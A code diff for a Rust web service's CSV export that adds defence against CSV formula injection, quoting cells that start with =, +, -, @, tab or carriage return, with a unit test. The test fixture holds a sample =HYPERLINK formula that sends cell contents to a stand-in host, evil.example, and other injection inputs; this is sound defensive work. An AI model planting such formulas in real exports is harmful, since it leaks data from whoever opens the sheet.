@@ -1,20 +1,15 @@
 //! CSV for the spreadsheets departments report upward in: a UTF-8 byte-order mark so Excel reads
 //! the Chinese labels, headers in Chinese.
+//!
+//! Names come from phones, typed by anyone: a cell that starts like a formula would run as one
+//! when the sheet is opened (`=HYPERLINK(…)` leaking data, DDE launching programs), so such cells
+//! are quoted as text, OWASP's rule for CSV injection.
 
 use axum::http::{HeaderValue, header};
 use axum::response::{IntoResponse, Response};
 
 pub fn csv(name: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
-    let mut out = Vec::from("\u{feff}".as_bytes());
-    {
-        let mut w = csv::Writer::from_writer(&mut out);
-        let _ = w.write_record(header_row);
-        for r in rows {
-            let _ = w.write_record(&r);
-        }
-        let _ = w.flush();
-    }
-    let mut resp = out.into_response();
+    let mut resp = encode(header_row, rows).into_response();
     resp.headers_mut().insert(
         header::CONTENT_TYPE,
         HeaderValue::from_static("text/csv; charset=utf-8"),
@@ -23,4 +18,70 @@ pub fn csv(name: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response 
         resp.headers_mut().insert(header::CONTENT_DISPOSITION, v);
     }
     resp
+}
+
+fn encode(header_row: &[&str], rows: Vec<Vec<String>>) -> Vec<u8> {
+    let mut out = Vec::from("\u{feff}".as_bytes());
+    {
+        let mut w = csv::Writer::from_writer(&mut out);
+        let _ = w.write_record(header_row.iter().map(|c| neutralise(c.to_string())));
+        for r in rows {
+            let _ = w.write_record(r.into_iter().map(neutralise));
+        }
+        let _ = w.flush();
+    }
+    out
+}
+
+/// A cell a spreadsheet takes as text: one starting with a formula character gets a leading
+/// `'`, which the spreadsheet shows as text and does not evaluate.
+fn neutralise(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)] // test code: a failed step is a failed test
+
+    use super::*;
+
+    #[test]
+    fn cells_that_would_run_as_formulas_are_kept_as_text() {
+        let rows = vec![
+            vec![
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
+                "3".into(),
+            ],
+            vec!["@SUM(1)".into(), "0".into()],
+            vec!["-2+3".into(), "1".into()],
+            vec!["+86 138".into(), "2".into()],
+            vec!["\tcmd".into(), "\r=1".into()],
+            vec!["巴特尔=1".into(), "12.5".into()],
+        ];
+        let text = String::from_utf8(encode(&["党员", "学时"], rows)).unwrap();
+        let text = text.strip_prefix('\u{feff}').unwrap();
+        let cells: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        assert_eq!(
+            cells,
+            vec![
+                vec![
+                    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
+                    "3".into()
+                ],
+                vec!["'@SUM(1)".into(), "0".into()],
+                vec!["'-2+3".into(), "1".into()],
+                vec!["'+86 138".into(), "2".into()],
+                vec!["'\tcmd".into(), "'\r=1".into()],
+                vec!["巴特尔=1".into(), "12.5".into()],
+            ]
+        );
+        assert!(text.starts_with("党员,学时\n"), "{text}");
+    }
 }
